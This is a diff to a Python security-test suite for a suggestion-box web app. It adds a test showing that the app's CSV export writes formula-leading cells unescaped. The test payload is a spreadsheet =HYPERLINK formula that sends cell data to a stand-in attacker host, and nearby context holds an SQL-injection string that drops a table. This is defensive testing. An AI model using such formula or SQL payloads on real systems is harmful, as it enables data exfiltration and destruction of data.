@@ -512,6 +512,36 @@ def test_html_payloads_are_escaped_everywhere(server: LiveServer, web: httpx.Cli
         lead.close()
 
 
+@pytest.mark.xfail(strict=True, reason=(
+    "BUG (suggestbox/reports.py _csv): cells starting with = + - @ are written as they are, so "
+    "a published summary (pre-filled from the submitter's text) becomes a spreadsheet formula"))
+def test_csv_cells_cannot_become_formulas(server: LiveServer, web: httpx.Client) -> None:
+    body = '=HYPERLINK("http://evil.example/?x="&A1,"点这里查看详情")'
+    submit_ok(web, body)
+    case_id = case_id_of(server, body)
+    month = date.today().strftime("%Y-%m")
+    lead, csrf = staff(server)
+    try:
+        if lead.get(f"/staff/reports/{month}/cases.csv").status_code == 404:
+            pytest.skip("no CSV export yet")
+        lead_id = query(server, "SELECT id FROM staff_user WHERE username = 'lead'")[0][0]
+        act = f"/staff/cases/{case_id}/act"
+        for data in ({"action": "accept", "assignee": str(lead_id)},
+                     {"action": "reply", "body": "+1 已处理"},
+                     {"action": "publish", "summary": body, "show_reply": "1"}):
+            assert lead.post(act, data={"csrf": csrf, **data}).status_code == 303
+        text = lead.get(f"/staff/reports/{month}/cases.csv").content.decode("utf-8-sig")
+    finally:
+        lead.close()
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert any("HYPERLINK" in c for c in cells), text[:500]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == [], dangerous
+
+
 def test_sql_looking_strings_are_just_text(server: LiveServer, web: httpx.Client) -> None:
     body = "'; DROP TABLE \"case\"; -- 以及 1' OR '1'='1"
     submit_ok(web, body)
